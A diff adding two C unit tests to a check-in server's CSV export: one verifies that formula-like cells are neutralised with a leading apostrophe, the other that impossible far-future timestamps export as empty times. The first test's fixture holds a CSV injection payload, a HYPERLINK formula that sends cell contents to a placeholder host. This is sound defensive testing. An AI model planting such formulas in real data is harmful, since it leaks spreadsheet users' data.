@@ -4,7 +4,8 @@
  * duplicates, rejections with reasons, facility-local times across DST,
  * RFC 4180 quoting and the facility/date filters; check-ins that stay in the
  * export after a re-import removed their membership, participant or session;
- * which cards a kiosk may link. */
+ * which cards a kiosk may link; formula cells neutralised and unshowable
+ * stored times exported (issue 12). */
 #include <setjmp.h>
 #include <stdarg.h>
 #include <stddef.h>
@@ -362,6 +363,66 @@ static void test_export_keeps_checkins_after_reimport(void **state)
 	roster_free(r);
 }
 
+/* Issue 12 defect 2: cells that a spreadsheet would run as a formula
+ * (starting with = + - @, tab or CR) are written with a leading ' (OWASP);
+ * other cells, dates and times included, are unchanged. */
+static void test_export_neutralises_formulas(void **state)
+{
+	struct fx *fx = *state;
+	struct srv_import_stats st;
+	reimport(fx, "formulas", NULL,
+		 "participant_id,given_name,family_name,card_uid\n"
+		 "P1,Åsa,Östberg,04A1B2C3\n"
+		 "P2,\"=HYPERLINK(\"\"http://x/?\"\"&A1,\"\"click\"\")\",+46701234567,\n"
+		 "P3,@SUM(A1),-2+3,\n"
+		 "P4,Märta,\"O\"\"Brien\",\n"
+		 "P5,Björn,Åkesson,04A1B2C5\n"
+		 "P6,Karl,Ek,04A1B2C6\n"
+		 "-P7,=1+1,Ek,\n",
+		 "group_id,participant_id\nG1,P1\nG1,P2\nG1,P3\nG1,-P7\nG2,P4\nG3,P5\nG3,P6\n",
+		 &st);
+	struct srv_export_filter f = {
+	    .facility_id = "F1", .from_date = "2026-11-23", .to_date = "2026-11-23"};
+	char *got = tu_export(fx->st, &f);
+	assert_string_equal(got, EXPORT_HEADER
+			    "\n"
+			    "F1,G1,S1,2026-11-23 10:00,'-P7,'=1+1,Ek,absent,,,\n"
+			    "F1,G1,S1,2026-11-23 10:00,P1,Åsa,Östberg,absent,,,\n"
+			    "F1,G1,S1,2026-11-23 10:00,P2,\"'=HYPERLINK(\"\"http://x/"
+			    "?\"\"&A1,\"\"click\"\")\",'+46701234567,absent,,,\n"
+			    "F1,G1,S1,2026-11-23 10:00,P3,'@SUM(A1),'-2+3,absent,,,\n");
+	free(got);
+}
+
+/* Issue 12 defect 1: a check-in stored with a time no calendar shows (year
+ * 10000: what the server accepted before it refused such times) does not
+ * break the export; its row has an empty checked_in_at. */
+static void test_export_survives_unrepresentable_time(void **state)
+{
+	struct fx *fx = *state;
+	struct protocol_event ev[2] = {
+	    checkin(U("41"), 253402300800000, CHECKIN_CARD, "P1", "S1"),
+	    checkin(U("42"), 9007199254740991, CHECKIN_NAME, "P2", "S1")};
+	struct protocol_result res[2];
+	ingest(fx, &fx->k1, ev, 2, res);
+	assert_int_equal(res[0].status, PROTOCOL_ACCEPTED);
+	assert_int_equal(res[1].status, PROTOCOL_ACCEPTED);
+	struct srv_export_filter f = {
+	    .facility_id = "F1", .from_date = "2026-11-23", .to_date = "2026-11-23"};
+	char *got = tu_export(fx->st, &f);
+	char *want =
+	    tu_subst(EXPORT_HEADER "\n"
+				   "F1,G1,S1,2026-11-23 10:00,P1,Åsa,Östberg,present,,card,{K}\n"
+				   "F1,G1,S1,2026-11-23 10:00,P2,Örjan,Ärlig,present,,name,{K}\n"
+				   "F1,G1,S1,2026-11-23 10:00,P3,Anna-Lena,\"Svensson, "
+				   "d.y.\",absent,,,\n",
+		     fx->k1.id);
+	/* tu_subst replaces every {K} */
+	assert_string_equal(got, want);
+	free(got);
+	free(want);
+}
+
 static struct protocol_event link_ev(const char *id, const char *pid, const char *uid)
 {
 	struct protocol_event e = {.type = EVENT_CARD_LINK, .at_ms = T0954};
@@ -424,6 +485,9 @@ int main(void)
 	    cmocka_unit_test_setup_teardown(test_export_keeps_checkins_after_reimport, setup,
 					    teardown),
 	    cmocka_unit_test_setup_teardown(test_card_link_scope, setup, teardown),
+	    cmocka_unit_test_setup_teardown(test_export_neutralises_formulas, setup, teardown),
+	    cmocka_unit_test_setup_teardown(test_export_survives_unrepresentable_time, setup,
+					    teardown),
 	};
 	return cmocka_run_group_tests(tests, NULL, NULL);
 }
